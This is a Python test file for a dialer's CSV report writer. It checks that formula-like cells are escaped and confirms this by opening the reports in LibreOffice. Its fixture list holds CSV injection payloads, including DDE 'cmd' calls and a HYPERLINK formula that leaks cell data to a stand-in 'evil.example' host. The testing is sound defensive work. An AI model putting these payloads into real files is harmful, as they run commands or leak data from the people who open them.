"""A CSV report safe to open: no cell is a live formula when a spreadsheet opens it, input cells
and API text alike, while numbers, phone numbers and ordinary text read as before; `--csv-raw`
gives the cells exactly as read.

The proof is LibreOffice itself: `soffice --headless --convert-to xlsx` opens the CSV as a
person's spreadsheet would (formulas evaluated) and the workbook it saves is read back. The
raw report, converted the same way, does hold formula cells: the check can fail. Locally the
LibreOffice test is skipped (saying why) when soffice is missing; in CI (CI set) it fails
instead (.ci/run installs libreoffice-calc).
"""

from __future__ import annotations

import csv
import os
import shutil
import subprocess
from pathlib import Path

import openpyxl
import pytest

from campaigns.report.csv_file import is_formula_like, safe_cell
from campaigns.report.rows import RESULT_COLUMNS, ReportRow
from campaigns.report.summary_sheet import ReportInfo
from campaigns.report.writer import write_report
from tests.cli_support import dialer_env, run_dialer

# What an attacker puts in a list (or gets an agent to say into a transcript).
FORMULAS = [
    "=cmd|' /C calc'!A0",
    "=1+2",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "＝1+2",
]
# What must read as before.
ORDINARY = [
    "+1 (212) 555-0100",
    "+44 20 7946 0958",
    "+12125550100",
    "-12.5",
    "-1e3",
    "00123",
    "(212) 555-0100",
    "Smith, Jr",
    'said "hi"',
    "a=b",
    "",
]
SOFFICE_TIMEOUT_S = 240.0


def test_formula_like_cells_are_made_text_and_numbers_left_alone() -> None:
    for cell in FORMULAS:
        assert is_formula_like(cell), cell
        assert safe_cell(cell) == "'" + cell
    for cell in ORDINARY:
        assert not is_formula_like(cell), cell
        assert safe_cell(cell) == cell


def write_hostile_list(path: Path) -> None:
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(["phone", "name", "note", "=HEADER()"])
        phones = ["+1 (212) 555-0100", "+44 20 7946 0958", "(415) 555-0123", "2125550199"]
        cells = FORMULAS + ORDINARY
        for i, cell in enumerate(cells):
            writer.writerow([phones[i % len(phones)], f"Name {i}", cell, cells[-1 - i]])


def api_text_report(path: Path, *, raw: bool) -> None:
    """A finished campaign's rows whose API columns carry formulas (outcome, transcript...)."""
    rows = [
        ReportRow(
            cells=["+12125550100", f"row {i}"],
            to_number="+12125550100",
            status="completed",
            outcome=text,
            call_id=f"call_{i}",
            duration="61",
            attempts=1,
            started_at="2024-07-01T12:00:12.000Z",
            completed_at="2024-07-01T12:01:13.000Z",
            recording=text,
            transcript=f"Agent: hello. {text}" if i % 2 else text,
            error="",
        )
        for i, text in enumerate(FORMULAS)
    ]
    info = ReportInfo("c1", "agent_x", "list.csv", "finished", None, None)
    write_report(path, ["phone", "name"], rows, info, csv_raw=raw)


def soffice_or_skip() -> str:
    found = shutil.which("soffice") or shutil.which("libreoffice")
    if found is None:
        reason = "LibreOffice (soffice) is not installed: apt-get install libreoffice-calc"
        if os.environ.get("CI"):
            pytest.fail(f"{reason}; CI must open the CSV report in LibreOffice (.ci/run)")
        pytest.skip(reason)
    return found


def open_in_libreoffice(soffice: str, csvs: list[Path], work: Path) -> dict[str, list[list]]:
    """Each CSV as LibreOffice reads it: UTF-8, comma-separated, formulas evaluated (as its
    import dialog does by default), saved as .xlsx and read back: {name: cells with type}."""
    out = work / "converted"
    profile = work / "lo-profile"  # a profile of its own: another soffice may be running
    done = subprocess.run(
        [
            soffice,
            f"-env:UserInstallation={profile.as_uri()}",
            "--headless",
            "--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true",
            "--convert-to",
            "xlsx",
            "--outdir",
            str(out),
            *map(str, csvs),
        ],
        capture_output=True,
        text=True,
        timeout=SOFFICE_TIMEOUT_S,
    )
    assert done.returncode == 0, done.stderr
    sheets = {}
    for path in csvs:
        book = openpyxl.load_workbook(out / f"{path.stem}.xlsx")  # formulas kept as formulas
        sheets[path.stem] = [
            [(cell.value, cell.data_type) for cell in row] for row in book.active.iter_rows()
        ]
    return sheets


def looks_like_formula(cell: tuple[object, str]) -> bool:
    value, kind = cell
    return kind == "f" or (isinstance(value, str) and value.lstrip()[:1] in "=+-@＝")


def formula_cells(sheet: list[list]) -> list[object]:
    return [value for row in sheet for value, kind in row if kind == "f"]


@pytest.mark.integration
def test_libreoffice_finds_no_formula_in_the_csv_report(tmp_path: Path) -> None:
    soffice = soffice_or_skip()
    contacts = tmp_path / "hostile.csv"
    write_hostile_list(contacts)
    env = dialer_env(tmp_path / "home")
    for name, extra in (("safe", []), ("raw", ["--csv-raw"])):
        report = tmp_path / f"{name}.csv"
        args = ["run", str(contacts), "--agent", "agent_x", "--dry-run", "--report", str(report)]
        done = run_dialer([*args, *extra], env)
        assert done.returncode == 0, done.output
    api_text_report(tmp_path / "api_safe.csv", raw=False)
    api_text_report(tmp_path / "api_raw.csv", raw=True)
    names = ["safe", "raw", "api_safe", "api_raw"]
    sheets = open_in_libreoffice(soffice, [tmp_path / f"{n}.csv" for n in names], tmp_path)

    assert formula_cells(sheets["safe"]) == []
    assert formula_cells(sheets["api_safe"]) == []
    # The same files written raw are live formulas once opened: what the default prevents.
    assert len(formula_cells(sheets["raw"])) >= 4
    assert len(formula_cells(sheets["api_raw"])) >= 4
    # Every cell reads as in the raw report, or, if it was a formula there (or text a
    # spreadsheet may take for one), as that text behind a quote.
    changed = 0
    for safe_name, raw_name in (("safe", "raw"), ("api_safe", "api_raw")):
        for safe_row, raw_row in zip(sheets[safe_name], sheets[raw_name], strict=True):
            for safe, raw in zip(safe_row, raw_row, strict=True):
                if safe != raw:
                    assert looks_like_formula(raw), (safe, raw)
                    assert safe[1] == "s" and str(safe[0]).startswith("'"), (safe, raw)
                    changed += 1
    assert changed >= 2 * len(FORMULAS)
    # The formula cells came through as text a person can read, marked by the quote.
    texts = {value for row in [*sheets["safe"], *sheets["api_safe"]] for value, _ in row}
    for cell in FORMULAS:
        assert "'" + cell.replace("\r", "\n") in texts
    assert "+1 (212) 555-0100" in texts and "+44 20 7946 0958" in texts
    header = [value for value, _ in sheets["safe"][0]]
    assert header[-len(RESULT_COLUMNS) - 1] == "'=HEADER()"
